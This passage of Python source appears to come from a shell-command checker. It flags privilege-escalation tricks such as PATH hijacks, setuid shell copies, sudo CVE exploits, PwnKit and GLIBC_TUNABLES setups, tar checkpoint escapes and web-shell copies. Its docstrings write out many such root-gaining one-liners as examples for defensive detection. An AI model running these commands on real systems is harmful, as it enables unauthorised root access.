    "tail", "sort", "gzip", "gunzip", "zip", "unzip", "bzip2", "xz", "mail", "uname", "hostname", "ping",
    "ip", "systemctl", "python", "python3", "perl", "less", "more", "which", "echo", "env", "who", "w", "df",
    "du", "free", "top", "kill", "pkill", "crontab", "sudo", "su", "passwd", "mount", "umount", "tee",
    "xargs", "basename", "dirname", "sleep", "clear", "reset", "logger", "git", "make", "ssh", "scp", "rsync",
    "nc", "tr", "cut", "wc", "uniq", "diff", "file", "stat", "readlink", "ln", "lsof", "last", "uptime",
    "iptables", "run-parts", "apt", "apt-get", "dpkg", "yum", "pgrep", "killall", "zcat", "md5sum",
    "sha256sum", "openssl",
})  # fmt: skip
"""Programs a root job or a setuid program calls by name, and so finds through ``PATH``."""
_RUNS_LATER_ELSEWHERE = lazy_compile(r"^/(?:opt|srv|usr/local)/(?:[^/]+/)*[^/]+$")
"""Files under ``/opt``, ``/srv`` or ``/usr/local``: an installed program's scripts, which its service or
a root job runs (``RUN_LATER`` has the directories of programs and ``*.sh`` outside the project)."""


def _text_written(invocation: Invocation) -> str | None:
    """What ``echo``, ``printf`` or ``cat`` writes into a file (``>``, ``>>``), or ``tee`` into its files
    (its here-document, or what is piped into it: ``echo TEXT | sudo tee FILE``)."""
    if invocation.name == "tee":
        return written_text(invocation) if _tee_files(invocation) else None
    if invocation.name not in ("echo", "printf", "cat"):
        return None
    if not any(r.op in WRITE_OPERATORS for r in invocation.command.redirects):
        return None
    return written_text(invocation)


def _tee_files(invocation: Invocation) -> list[str]:
    return [v for v in _values(invocation) if not v.startswith("-")]


def _shell_left(invocation: Invocation) -> Verdict | None:
    """``echo "/bin/sh" > /tmp/ls``, ``echo /bin/bash >> /opt/backup.sh``, ``echo 'chmod +s /bin/bash' >>
    backup.sh``: a script that only starts a shell, written under the name of a program others call by
    name (put first on a ``PATH``, it answers for that program) or into a script someone else runs later
    (root's job gets the shell), and a line that sets the setuid bit on a shell, written anywhere."""
    name = invocation.name
    command = invocation.command
    targets: list[str] = []
    if name in ("echo", "printf", "cat"):
        targets = [
            t
            for r in command.redirects
            if r.op in WRITE_OPERATORS and (t := command.static(r.target)) and t[:1] != "&"
        ]
        text = written_text(invocation) if targets else None
    elif name == "tee":
        targets = _tee_files(invocation)
        text = written_text(invocation)
    else:
        return None
    if not targets or not text:
        return None
    if _SHELL_SETUID_LINE.search(text):
        return _verdict(PRIVILEGE, invocation, "writes a line that sets the setuid bit on a shell")
    lines = [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.strip().startswith("#")]
    if len(lines) != 1 or not _BARE_SHELL.match(lines[0]):
        return None
    if _PRIVILEGED_MODE.search(lines[0]):  # echo '/bin/bash -p' > /tmp/x: the PATH or a root job's hijack
        why = "writes a script that only starts a shell keeping a setuid caller's privileges (-p)"
        return _verdict(PRIVILEGE, invocation, why)
    for target in targets:
        base = target.rpartition("/")[2]
        if base in _HIJACKED_NAMES:
            why = (
                f"writes a script named {base} that only starts a shell: first on a PATH, it runs for {base}"
            )
            return _verdict(PRIVILEGE, invocation, why)
        if RUN_LATER.match(target) or _RUNS_LATER_ELSEWHERE.match(target):
            why = f"leaves a shell in {target}, a script another account runs"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_SHELL_PROGRAM = lazy_compile(r"^(?:/usr)?(?:/local)?/s?bin/(?:ba|da|z|k|mk|a|r|fi)?sh$")
"""A shell's program file (``/bin/bash``, ``/usr/bin/dash``)."""


_COPY_VALUE_OPTIONS = frozenset({"-m", "-o", "-g", "-S", "-t", "--mode", "--owner", "--group", "--suffix"})
"""Options of ``cp``, ``ln`` and ``install`` whose value is the next word (``install -m 755 SRC DEST``)."""


_SHARED_TOP = lazy_compile(r"^(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/usr/tmp)/?$")
"""A directory every account may write, itself (``cp /bin/bash /tmp/``)."""


def _shell_renamed(invocation: Invocation) -> Verdict | None:
    """``cp /bin/bash /tmp/bin/tar``, ``ln -s /bin/sh /tmp/ps``: a shell copied or linked under the name
    of a program a root job or a setuid program calls by name: first on a ``PATH``, it answers for it.
    ``cp /bin/bash /tmp/rootbash``: a shell copied into a directory anyone writes, which no build needs;
    the setuid bit set on it next (as root, by sudo or a root job's hijack) makes the root shell."""
    if invocation.name not in ("cp", "ln", "install"):
        return None
    positionals: list[str] = []
    skip = False
    for value in _values(invocation):
        if skip or value.startswith("-"):
            skip = not skip and value in _COPY_VALUE_OPTIONS
            continue
        positionals.append(value)
    if len(positionals) != 2 or not _SHELL_PROGRAM.match(positionals[0]):
        return None
    target = positionals[1]
    shared = _SHARED_DIRS.match(target.rstrip("/")) or _SHARED_TOP.match(target)
    if shared and invocation.name in ("cp", "install"):
        why = f"copies a shell ({positionals[0]}) into {target}, shared: a setuid copy's first step"
        return _verdict(PRIVILEGE, invocation, why)
    base = target.rstrip("/").rpartition("/")[2]
    if base not in _HIJACKED_NAMES:
        return None
    why = f"puts a shell ({positionals[0]}) under the name {base}: first on a PATH, it runs for {base}"
    return _verdict(PRIVILEGE, invocation, why)


_ELF_PATCHES = frozenset(
    {"--add-needed", "--replace-needed", "--set-interpreter", "--set-rpath", "--add-rpath"}
)
_SYSTEM_PROGRAM = lazy_compile(r"^/(?:usr/(?:local/)?)?(?:s?bin|lib\w*|libexec)/")
_UDF = lazy_compile(r"\bcreate\s+(?:aggregate\s+)?function\s+\S+\s+returns\s+\w+\s+soname\b", re.IGNORECASE)
"""MySQL's user-defined function from a shared library: code of one's own run by the database server."""


def _loads_own_code(invocation: Invocation) -> Verdict | None:
    """``patchelf --add-needed /tmp/x.so /usr/bin/cat`` (a system program made to load a library: its
    setuid bit, or root running it, runs the library), MySQL's ``CREATE FUNCTION … SONAME`` (the server
    runs the library). (``nmap --interactive`` is judged on its own: :func:`_nmap_interactive`.)"""
    name = invocation.name
    values = _values(invocation)
    if name == "patchelf" and _ELF_PATCHES & set(values) and "--output" not in values:
        target = next((v for v in reversed(values) if not v.startswith("-")), "")
        if _SYSTEM_PROGRAM.match(target):
            return _verdict(PRIVILEGE, invocation, f"patches {target}, a system program, to load other code")
    database = "mysql" in name or name == "mariadb"
    if database and any(_UDF.search(text) for text in (*values, *fed_code(invocation))):
        why = "loads a shared library into the database server as a function"
        return _verdict(PRIVILEGE, invocation, why)
    return None


_EXIM_RUN = lazy_compile(r"\$\{run\{")
"""Exim's string expansion that runs a program: in a recipient address, the root exploit of
CVE-2019-10149 ("The Return of the WIZard")."""


def _mail_expansion(invocation: Invocation) -> Verdict | None:
    """``echo 'rcpt to:<${run{...}}@localhost>' >&3``: Exim's ``${run{`` in text sent or handed on."""
    if any(_EXIM_RUN.search(v) for v in _values(invocation)):
        return _verdict(PRIVILEGE, invocation, "hands Exim a ${run{...}} expansion: a command its root runs")
    return None


def _authorization(invocation: Invocation, home: str) -> Verdict | None:
    """sudoedit's editor trick, and macOS's authorization rules rewritten."""
    for assignment in invocation.env:
        trick = _EDITOR_TRICK.match(assignment)
        if trick and invocation.name in ("sudoedit", "sudo"):
            return _verdict(PRIVILEGE, invocation, f"makes sudoedit open {trick.group(1)} as root")
    editor = _sudoedit_editor(invocation)
    if editor is not None:
        why = f"sudoedit with {editor}, not an editor: what it writes, sudo copies over the file as root"
        return _verdict(PRIVILEGE, invocation, why)
    values = _values(invocation)
    if invocation.name == "security" and values[:1] == ["authorizationdb"] and values[1:2] in _AUTHDB_CHANGES:
        return _verdict(PRIVILEGE, invocation, "rewrites who macOS lets act as an administrator")
    return None


_AUTHDB_CHANGES = (["write"], ["remove"], ["merge"])
"""``security authorizationdb`` verbs that change a right (``read`` only shows it)."""
_EDITOR_VARIABLES = ("SUDO_EDITOR", "VISUAL", "EDITOR")
_EDITORS = frozenset({
    "vi", "vim", "nvim", "gvim", "mvim", "view", "nvi", "elvis", "vile", "ex", "ed", "nano", "pico",
    "rnano", "micro", "emacs", "emacsclient", "mg", "jed", "joe", "jmacs", "jstar", "ne", "mcedit", "kak",
    "hx", "helix",
    "code", "code-insiders", "codium", "subl", "sublime_text", "atom", "zed", "gedit", "gnome-text-editor",
    "kate", "kwrite", "mousepad", "pluma", "xed", "leafpad", "featherpad", "geany", "jove", "le", "tilde",
    "editor", "sensible-editor", "true", "cat",
})  # fmt: skip
"""Editors (and ``true``/``cat``, which change nothing) a person names for sudoedit to open the copy with."""


def _sudoedit_editor(invocation: Invocation) -> str | None:
    """``EDITOR=/tmp/x sudoedit FILE``, ``VISUAL=/dev/shm/e sudo -e FILE``: sudoedit runs the editor on a
    copy, as the caller, then writes the copy over FILE as root. An editor is a person typing; any other
    program (a script of one's own that ``sed``s root's hash into the copy) writes FILE as root unseen.
    The variable sudo reads first (SUDO_EDITOR, VISUAL, EDITOR) counts; one exported earlier in the line
    is in the invocation's environment too."""
    values = _values(invocation)
    editing = invocation.name == "sudoedit" or (
        invocation.name == "sudo" and any(v in ("-e", "--edit") for v in values)
    )
    if not editing:
        return None
    assigned = dict(
        (invocation.command.static(a) or a).partition("=")[::2] for a in invocation.env if "=" in a
    )
    for key in _EDITOR_VARIABLES:
        value = assigned.get(key, "").strip()
        if not value:
            continue
        program = value.split()[0].rpartition("/")[2]
        if program not in _EDITORS:
            return f"{key}={value}"
        return None
    return None


_ADMIN_GROUPS = frozenset({"sudo", "wheel", "admin", "root", "0"})
"""Groups whose members may act as root: sudo's (Debian), wheel (Red Hat, Arch, BSD), admin (Ubuntu
before 12.04, macOS) and root's own group. Joining docker's is as good as root too, but developers
do it to use Docker: that stays an account change, asked."""
_GROUP_OPTIONS = frozenset({"-G", "--groups", "-g", "--gid", "--group", "--ingroup", "-a", "--add", "-M",
                            "--members", "-m"})  # fmt: skip
"""Options whose value names groups (useradd/usermod -G, adduser --ingroup, pw -G) or, for gpasswd and
groupmems, the members added to the group the command names."""


def _groups_joined(name: str, values: list[str]) -> set[str]:
    """The groups an account-tool invocation puts someone in (empty when it only reads or removes)."""
    if name in ("gpasswd", "groupmems"):
        adds = any(v in ("-a", "--add", "-M", "--members") for v in values)
        group = next((values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-g", "--group")), None)
        positionals = [v for i, v in enumerate(values) if not v.startswith("-")
                       and (i == 0 or values[i - 1] not in _GROUP_OPTIONS)]  # fmt: skip
        group = group or (positionals[-1] if positionals else None)
        return {group} if adds and group else set()
    if name in ("adduser", "addgroup") and not any(v.startswith("-") for v in values):
        return {values[1]} if len(values) == 2 else set()  # adduser USER GROUP (Debian, BusyBox addgroup)
    joined: set[str] = set()
    for index, value in enumerate(values):
        option, equals, attached = value.partition("=")
        if equals and option in ("--groups", "--gid", "--ingroup", "--group"):
            joined.update(attached.split(","))
        elif value in ("-G", "--groups", "-g", "--gid", "--ingroup") and index + 1 < len(values):
            joined.update(values[index + 1].split(","))
        elif re.fullmatch(r"-[a-zA-Z]*[Gg][^-]*", value) and not value.startswith("--"):
            cluster = value[1:]
            at = max(cluster.find("G"), cluster.find("g"))
            rest = cluster[at + 1 :]  # -aGsudo attaches the value; -aG takes the next word
            joined.update((rest or (values[index + 1] if index + 1 < len(values) else "")).split(","))
    return joined


def _accounts(invocation: Invocation) -> Verdict | None:
    """A second root: an account given uid 0, or put in a group whose members may act as root."""
    name = invocation.name
    values = _values(invocation)
    if name in ("usermod", "useradd", "adduser", "pw", "luseradd", "lusermod"):
        for index, value in enumerate(values[:-1]):
            if value in ("-u", "--uid") and values[index + 1] in ("0", "00", "000"):
                return _verdict(PRIVILEGE, invocation, "gives an account uid 0: a second root")
    if name in ("usermod", "useradd", "adduser", "addgroup", "gpasswd", "groupmems", "pw", "lusermod"):
        admin = sorted(_groups_joined(name, values) & _ADMIN_GROUPS)
        if admin:
            return _verdict(
                PRIVILEGE, invocation, f"puts an account in the {admin[0]} group: it may act as root"
            )
    if name == "dscl" and "UniqueID" in values and values[-1:] == ["0"]:
        return _verdict(PRIVILEGE, invocation, "gives an account uid 0: a second root")
    return None


def _root_shell(invocation: Invocation) -> Verdict | None:
    """A root shell, ``sudo -u#-1``, or a program with a shell escape run as root."""
    name = invocation.name
    values = _values(invocation)
    sudo_args = (
        values if name == "sudo" else [a for la in invocation.layers if la.name == "sudo" for a in la.args]
    )
    if any(re.fullmatch(r"-u#(?:-1|4294967295)|#-1|#4294967295", v) for v in sudo_args):
        return _verdict(
            PRIVILEGE, invocation, "sudo -u#-1 runs as root whatever the rules say (CVE-2019-14287)"
        )
    shell_flags = {"s", "i"} if name == "sudo" else {"s"} if name == "doas" else set()
    if (
        shell_flags
        and _is_root(_user(name, values))
        and any(
            v in ("--shell", "--login") or (v[:1] == "-" and v[1:2] != "-" and shell_flags & set(v[1:]))
            for v in values
        )
    ):
        return _verdict(PRIVILEGE, invocation, "opens a root shell")
    if name == "su" or (name == "machinectl" and "shell" in values):
        if {"-c", "--command", "--help", "-h", "--version", "-V"} & set(values):
            return None  # su -c CMD: CMD is judged as run by root (_nested_as_root)
        users = [v for v in values if not v.startswith("-") and v not in ("shell", "-")]
        if not users or users[0].partition("@")[0] in ("root", "0", ""):
            return _verdict(PRIVILEGE, invocation, "opens a root shell")
    copy = _setuid_copy(invocation)
    if not _as_root(invocation) and not copy:
        return None
    if name in ("sg", "newgrp") or (name == "systemd-run" and {"-S", "--shell"} & set(values)):
        return _verdict(PRIVILEGE, invocation, f"{name} with no command opens a root shell")
    operands = [v for v in values if not v.startswith("-")]
    if name == "service" and operands and "/" in operands[0]:
        return _verdict(PRIVILEGE, invocation, f"service runs {operands[0]}, a program by its path, as root")
    if name in _INTERACTIVE_ESCAPES:
        return _verdict(PRIVILEGE, invocation, f"runs {name} as root, which opens a shell on request")
    if name == "ncdu" and not {"-o", "-f", "--help", "-h", "-v", "--version"} & set(values):
        return _verdict(PRIVILEGE, invocation, "runs ncdu as root, which opens a shell on a key (b)")
    if name == "nmap" and _nmap_runs_code(values):
        return _verdict(
            PRIVILEGE, invocation, "runs nmap as root with its prompt or a script file: a root shell"
        )
    if name in _SHELL_ESCAPES:
        code = [" ".join(_without_judged_scripts(values)), *fed_code(invocation)]
        if INTERPRETERS.match(name):
            code.append(inline_code(invocation) or "")
        if any(_SHELL_PATH.search(text) for text in code):
            whose = f"a copy of {name} at {_program_word(invocation)}" if copy else name
            return _verdict(PRIVILEGE, invocation, f"spawns a shell from {whose}, as root")
    return None


_COPY_PLACE = lazy_compile(
    r"^(?:\./[^/]+|(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/usr/tmp)/(?:[^/]+/)?[^/]+)$"
)
"""``./vim``, ``/tmp/find``: a program in the working directory itself or in a directory anyone writes."""


def _setuid_copy(invocation: Invocation) -> bool:
    """``./vim -c ':!sh'``, ``/tmp/x/find . -exec /bin/sh \\; -quit``: a system program with a shell escape
    (GTFOBins) run from a copy in the working directory or a shared one: the copy is there for its setuid
    bit or its capabilities (a project builds its own programs under other names or in a build tree)."""
    name = invocation.name or ""
    if name not in _SHELL_ESCAPES and name not in _INTERACTIVE_ESCAPES:
        return False
    program = _program_word(invocation)
    return program.rpartition("/")[2] == name and bool(_COPY_PLACE.match(program))


_SUDO_VALUED = frozenset("ugCDhprtTUR")
"""sudo's short options that take a value (``-u bob``, ``-ubob``, ``-R /dir``)."""
_SUDOEDIT_SHELL = lazy_compile(r"^-[A-Za-z]*[si][A-Za-z]*$|^--(?:shell|login)$")


def _sudo_exploit(invocation: Invocation) -> Verdict | None:
    """sudo's own exploits: ``sudo -R DIR`` (a chroot whose ``nsswitch.conf`` the caller wrote loads
    the caller's library as root, CVE-2025-32463) and ``sudoedit -s 'x\\'`` (an argument ending in
    a backslash overflows sudo's heap, CVE-2021-3156 "Baron Samedit"). Neither has an ordinary use:
    ``sudo --chroot`` is off in every default policy and sudoedit has no shell mode."""
    layers = [(layer.name, list(layer.args)) for layer in invocation.layers]
    layers.append((invocation.name, _values(invocation)))
    for name, args in layers:
        if name == "sudo" and _sudo_chroots(args):
            why = "sudo --chroot runs as root inside a directory the caller chose (CVE-2025-32463)"
            return _verdict(PRIVILEGE, invocation, why)
        editing = name == "sudoedit" or (name == "sudo" and ("-e" in args or "--edit" in args))
        if editing and (
            any(_SUDOEDIT_SHELL.match(arg) for arg in args) or any(_odd_backslash(arg) for arg in args)
        ):
            why = "sudoedit with a shell flag or a trailing backslash: the heap overflow of CVE-2021-3156"
            return _verdict(PRIVILEGE, invocation, why)
    return None


def _sudo_chroots(args: list[str]) -> bool:
    """``sudo -R DIR``, ``sudo -uroot -RDIR``, ``sudo --chroot=DIR`` among sudo's own options."""
    index = 0
    while index < len(args):
        arg = args[index]
        if arg == "--" or not arg.startswith("-") or arg == "-":
            return False
        if arg.startswith("--"):
            if arg == "--chroot" or arg.startswith("--chroot="):
                return True
            index += 1
            continue
        for position, letter in enumerate(arg[1:], start=1):
            if letter == "R":
                return True
            if letter in _SUDO_VALUED:
                index += 0 if position + 1 < len(arg) else 1  # -uBOB carries its value; -u BOB does not
                break
        index += 1
    return False


def _odd_backslash(word: str) -> bool:
    return (len(word) - len(word.rstrip("\\"))) % 2 == 1


_SETUID_PROGRAMS = frozenset({
    "pkexec", "su", "sudo", "sudoedit", "doas", "passwd", "chsh", "chfn", "newgrp", "sg", "gpasswd", "chage",
    "expiry", "mount", "umount", "fusermount", "fusermount3", "at", "crontab", "unix_chkpwd", "ssh-keysign",
    "polkit-agent-helper-1", "dbus-daemon-launch-helper", "Xorg", "Xorg.wrap", "exim4", "exim", "ntfs-3g",
    "pppd", "staprun", "mount.nfs", "mount.cifs", "snap-confine", "vmware-user-suid-wrapper", "traceroute6",
})  # fmt: skip
"""Programs installed set-user-ID root on common Linux systems: they start as root from any user."""
_EXPLOIT_VARIABLES = lazy_compile(
    r"^(?:GCONV_PATH|GLIBC_TUNABLES|LD_AUDIT|LD_ORIGIN_PATH|LD_DEBUG_OUTPUT|LD_PROFILE(?:_OUTPUT)?"
    r"|MALLOC_TRACE|NLSPATH|LOCPATH|RES_OPTIONS|HOSTALIASES)="
)
"""Variables libc or the loader reads before ``main``, that no one gives a set-user-ID program but to
make it load or parse the caller's code (PwnKit's ``GCONV_PATH``, Looney Tunables' ``GLIBC_TUNABLES``).
``LD_LIBRARY_PATH`` is left out: secure mode drops it, and people do set it before ``sudo``."""


_PWNKIT_NAME = lazy_compile(r"(?:^|/)GCONV_PATH=")
_GCONV_LIST = lazy_compile(r"(?:^|/)gconv-modules$")
"""A gconv module list: ``iconv`` loads the libraries it names (PwnKit's ``pwnkit/gconv-modules``)."""
_SYSTEM_GCONV = lazy_compile(r"^/(?:usr/)?lib(?:32|64|x32)?/(?:[\w-]+/)?gconv/")
"""Where libc's own lists live (a package's to write, judged as system files)."""
_GCONV_ENTRY = lazy_compile(r"^\s*module\s+\S+//\s+\S+//\s+\S+")
"""A gconv module list's line (``module UTF-8// PWNKIT// pwnkit 1``), echoed into a list."""
_OVERLAY_POC = frozenset({"fuse", "exp", "exploit", "poc"})
"""CVE-2023-0386's PoC programs as its Makefile builds them (``./fuse ./ovlcap/lower ./gc``, ``./exp``)."""
_DEVICE_TYPES = frozenset({"b", "c", "u"})
_FILE_MAKERS = frozenset(
    {"mkdir", "touch", "cp", "mv", "ln", "install", "chmod", "tee", "rsync", "gcc", "cc"}
)
"""Programs whose operands are files they make (``export GCONV_PATH=…`` is a variable, judged elsewhere)."""


def _exploit_files(invocation: Invocation) -> Verdict | None:
    """``mkdir 'GCONV_PATH=.'``: the directory whose name PwnKit turns into an environment variable;
    ``mknod /tmp/sda b 8 0``: a device node, the disk (or kernel memory) under a name no rule watches."""
    values = _values(invocation)
    nodes = values if invocation.name == "mknod" else values[1:] if values[:1] == ["mknod"] else []
    if any(value in _DEVICE_TYPES for value in nodes):
        why = "creates a device node: a disk or the kernel's memory, reachable under a name of its choosing"
        return _verdict(VOLUMES, invocation, why)  # asked: tldr's mknod page makes them so
    redirects = [invocation.command.static(r.target) or "" for r in invocation.command.redirects]
    named = [*values, *redirects] if invocation.name in _FILE_MAKERS else redirects
    if any(_PWNKIT_NAME.search(value) for value in named if "=" in value):
        return _verdict(
            PRIVILEGE, invocation, "makes a file named GCONV_PATH=…: PwnKit's set-up (CVE-2021-4034)"
        )
    written = [
        *redirects,
        *(values if invocation.name == "tee" else values[-1:] if invocation.name in _FILE_MAKERS else []),
    ]
    listed = [value for value in written if _GCONV_LIST.search(value) and not _SYSTEM_GCONV.match(value)]
    if listed or (invocation.name in ("echo", "printf") and any(_GCONV_ENTRY.match(v) for v in values)):
        why = "writes a gconv module list that loads the caller's library: PwnKit's set-up (CVE-2021-4034)"
        return _verdict(PRIVILEGE, invocation, why)
    if any("ovlcap" in value.split("/") for value in values) and invocation.name in _OVERLAY_POC:
        why = "runs the overlayfs set-user-ID copy-up exploit's FUSE stage (CVE-2023-0386, its ovlcap tree)"
        return _verdict(PRIVILEGE, invocation, why)
    return None


def _loader_hijack(invocation: Invocation) -> Verdict | None:
    """``env -i GCONV_PATH=. pkexec``, ``GLIBC_TUNABLES=glibc.tunables=... su --help``: libc's
    variables handed to a set-user-ID program, which parses them as root (CVE-2021-4034,
    CVE-2023-4911). The same variables for an ordinary program (``GLIBC_TUNABLES=glibc.malloc...
    java``) are tuning, not judged here."""
    if posixpath.basename(invocation.name) not in _SETUID_PROGRAMS:
        return None
    environment = [
        *invocation.env,
        *(a for layer in invocation.layers if layer.name == "env" for a in layer.args),
    ]
    for assignment in environment:
        if _EXPLOIT_VARIABLES.match(assignment):
            variable = assignment.partition("=")[0]
            why = f"hands {variable} to {invocation.name}, a set-user-ID root program: its loader obeys it"
            return _verdict(PRIVILEGE, invocation, why)
    return None


# Shells whose ``-p`` (or ``-o privileged``) keeps a set-user-ID program's effective user: the
# flag has no use but running a root shell from a set-user-ID binary (``find -exec /bin/sh -p``).
_PRIVILEGED_MODE_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "rbash"})


def _privileged_mode(invocation: Invocation) -> Verdict | None:
    """A shell started in privileged mode, read from its options up to its script or ``--``."""
    if invocation.name not in _PRIVILEGED_MODE_SHELLS or not shell_mode(invocation).privileged:
        return None
    return _verdict(
        PRIVILEGE,
        invocation,
        f"starts {invocation.name} in privileged mode (-p), which keeps a set-user-ID program's root",
    )


_FIND_RUNS = frozenset({"-exec", "-execdir", "-ok", "-okdir"})


def _find_shell_escape(invocation: Invocation) -> Verdict | None:
    """``find . -exec /bin/sh \\; -quit``: find starting a shell with nothing to run, which only a shell
    escape does. Where find is set-user-ID (GTFOBins' SUID list), dash keeps the root it inherits even
    without ``-p``; a script of one's own (``-exec sh -c '...' {} \\;``) is judged as the script."""
    if invocation.name != "find":
        return None
    values = _values(invocation)
    for index, value in enumerate(values):
        if value not in _FIND_RUNS or index + 1 >= len(values):
            continue
        program, *rest = values[index + 1 :]
        ran = rest[: next((i for i, v in enumerate(rest) if v in (";", "+")), len(rest))]
        bare = all(v.startswith("-") and v not in ("-c", "-s") and "c" not in v[1:] for v in ran)
        if program.rsplit("/", 1)[-1] in _PRIVILEGED_MODE_SHELLS and bare:
            why = f"find {value} starts {program} with nothing to run: a shell escape (root if find is suid)"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_TAR_COMMAND_OPTIONS = frozenset({"--to-command", "--use-compress-program", "-I", "--info-script",
                                   "--new-volume-script", "-F"})  # fmt: skip


def _tar_runs_command(invocation: Invocation) -> Verdict | None:
    """``tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh *``, ``tar -I 'sh -c id' -cf x
    .``: tar made to run a command (GTFOBins' shell escape, root where tar runs under sudo or a root job's
    glob). A checkpoint's action to run is no archiving step (``dot``, ``echo`` stay ordinary); a filter
    (``--to-command=md5sum``, ``-I zstd``) counts only when it is a shell."""
    if invocation.name not in ("tar", "gtar", "bsdtar"):
        return None
    values = _values(invocation)
    for index, value in enumerate(values):
        option, equals, given = value.partition("=")
        if not equals:
            given = values[index + 1] if index + 1 < len(values) else ""
        if option == "--checkpoint-action" and given.startswith("exec="):
            why = f"tar runs {given[5:]!r} at its checkpoints: a command, not an archive (a shell escape)"
            return _verdict(PRIVILEGE, invocation, why)
        words = given.split()
        if (
            option in _TAR_COMMAND_OPTIONS
            and words
            and words[0].rsplit("/", 1)[-1] in _PRIVILEGED_MODE_SHELLS
        ):
            why = f"tar {option} hands its data to a shell ({given!r}): a shell escape"
            return _verdict(PRIVILEGE, invocation, why)
    return _root_tar_over_shared_glob(invocation, values)


_LEADING_GLOB = lazy_compile(r"^(?:\*|\?|\[)[^/]*$")
"""A glob of the working directory's names that can match one starting with a dash (``*``, ``*.gz``);
``/tmp/*`` and ``./*`` give paths (``/tmp/--checkpoint=1``), which tar does not take as options."""


_TAR_READS = lazy_compile(r"^-?[A-Za-z]*[xt]")
"""tar's first word naming an extract or a list (``-xzf``, ``xvf``, ``-tf``): it reads one archive."""


def _root_tar_over_shared_glob(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``cd /tmp && sudo tar -cf /root/b.tar *``: tar as root over a bare glob in a directory anyone
    writes. Any account may put a file there named ``--checkpoint-action=exec=sh x.sh``, which the glob
    hands to tar as its option: the wildcard injection's trigger (a developer archives their own tree)."""
    if not _as_root(invocation) or not _SHARED_TOP.match(invocation.cwd or ""):
        return None
    if any(_TAR_READS.match(v) for v in values[:1]) or {"--extract", "--get", "--list"} & set(values):
        return None  # cd /tmp && sudo tar -xzf *.tar.gz -C /opt: an archive unpacked, its name the glob
    for value in values:
        if _LEADING_GLOB.match(value):
            why = f"tar as root over {value} in {invocation.cwd}: a file there named as an option runs"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_ATTACK_KIT = lazy_compile(
    r"^/usr/share/(?:(?P<shells>webshells|laudanum|nishang|windows-resources|windows-binaries)"
    r"|exploitdb(?:-bin-sploits)?|peass|powersploit|mimikatz|linux-exploit-suggester|unix-privesc-check)/."
)
"""Kali's attack kits: web shells and Windows payloads (``/usr/share/webshells/php/php-reverse-shell.php``,
``/usr/share/windows-resources/binaries/nc.exe``), exploits and escalation tools."""


def _attack_kit_copy(invocation: Invocation) -> Verdict | None:
    """``cp /usr/share/webshells/php/php-reverse-shell.php payload.php``, ``sed s/IP/10.0.0.5/
    /usr/share/laudanum/php/shell.php > s.php``: a kit's file made into one's own, the step before it is
    uploaded or run. A kit's file only read (``cat``, ``ls``, ``grep``) is not judged."""
    values = _values(invocation)
    kit = next((m for m in map(_ATTACK_KIT.match, values) if m is not None), None)
    if kit is None:
        return None
    copier = invocation.name in _KIT_COPIERS and sum(not v.startswith("-") for v in values) >= 2
    if not copier and next(writes(invocation), None) is None:
        return None
    if kit.group("shells"):
        why = f"makes a copy of {kit.string}, a web shell or payload of an attack kit"
        return _verdict(BACKDOOR, invocation, why)
    return _verdict(PRIVILEGE, invocation, f"makes a copy of {kit.string}, an exploit of an attack kit")


_KIT_COPIERS = frozenset({"cp", "gcp", "mv", "install", "ln", "rsync", "scp", "ditto", "dd"})
_DISGUISED_CODE = lazy_compile(
    r"\.(?:php\d?|phtml|phar|pht|jspx?|aspx?)(?:\.|%00\.?)(?:jpe?g|png|gif|bmp|ico|pdf|svg|webp)$",
    re.IGNORECASE,
)
"""Server code named as an image or a document (``shell.php.jpg``, ``cmd.aspx.png``, ``x.php%00.gif``)."""


def _disguised_code(invocation: Invocation) -> Verdict | None:
    """``mv php-reverse-shell.php php-reverse-shell.php.jpg``: server code renamed to pass an upload's
    check of the extension (Apache runs ``x.php.jpg`` as PHP where it maps ``.php`` anywhere in a name);
    no project names its code so."""
    if invocation.name not in _KIT_COPIERS:
        return None
    names = [v for v in _values(invocation) if not v.startswith("-")]
    if len(names) >= 2 and _DISGUISED_CODE.search(names[-1].rstrip("/")):
        why = f"names server code {names[-1].rpartition('/')[2]}, an image's name (an upload check bypassed)"
        return _verdict(BACKDOOR, invocation, why)
    return None


def _nmap_interactive(invocation: Invocation) -> Verdict | None:
    """``/usr/local/bin/nmap --interactive`` then ``!sh``: the option left nmap in 2010 (5.21); it is only
    typed now as the shell escape of an old nmap left setuid."""
    if invocation.name == "nmap" and "--interactive" in _values(invocation):
        return _verdict(PRIVILEGE, invocation, "nmap's interactive mode: the shell escape of a setuid nmap")
    return None


def _nmap_runs_code(values: list[str]) -> bool:
    """``nmap --interactive`` (old versions: ``!sh`` at its prompt) or ``--script=FILE`` (a Lua file of
    one's own, ``os.execute("/bin/sh")``); the named scripts nmap ships (``--script vuln``) are not code
    of one's own."""
    if "--interactive" in values:
        return True
    scripts = [v.partition("=")[2] for v in values if v.startswith("--script=")]
    scripts += [values[i + 1] for i, v in enumerate(values[:-1]) if v == "--script"]
    return any("/" in s or s.endswith(".nse") or s.startswith("$") for s in scripts)


def _without_judged_scripts(values: list[str]) -> list[str]:
    """The arguments less each ``sh -c SCRIPT`` whose script, run as root, is harmless.

    ``sudo find /etc/cni -exec sh -c 'echo "{}" && cat "{}"' \\;``: the shell runs a script,
    not a terminal. Kept (a root shell): a script that starts a shell (``exec sh 0<&1``,
    GTFOBins), a program with a shell escape or an install (:func:`_judge_root`), or that
    does not parse.
    """
    kept: list[str] = []
    index = 0
    while index < len(values):
        value = values[index]
        script = values[index + 2] if index + 2 < len(values) and values[index + 1] == "-c" else None
        if script is not None and value.rpartition("/")[2] in SHELLS and _harmless_as_root(script):
            index += 3
            continue
        kept.append(value)
        index += 1
    return kept


def _harmless_as_root(script: str) -> bool:
    if _A_SHELL.search(script):
        return False
    try:
        parsed = parse_nested(script)
    except ShellSyntaxError:
        return False
    return not any(_judge_root(inner) for stages in walk(parsed) for inner in stages)


_A_SHELL = lazy_compile(r"(?:^|[\s;&|(`'\"/])(?:ba|da|z|k|c|tc|fi)?sh(?:$|[\s;&|)`'\"<>])")
